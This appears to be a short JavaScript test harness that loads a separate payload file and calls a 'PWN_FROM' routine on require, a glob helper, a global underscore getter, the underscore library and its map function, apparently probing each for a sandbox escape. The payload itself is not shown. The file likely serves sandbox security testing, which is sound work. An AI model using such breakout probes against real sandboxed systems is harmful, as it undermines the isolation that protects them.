require("./lib/payload.js");
PWN_FROM(require, "require");
PWN_FROM(require_glob, "glob");
PWN_FROM(Object.getOwnPropertyDescriptor(globalThis, "_") && Object.getOwnPropertyDescriptor(globalThis, "_").get, "underscore-getter");
PWN_FROM(_, "underscore"); PWN_FROM(_.map, "underscore-map");
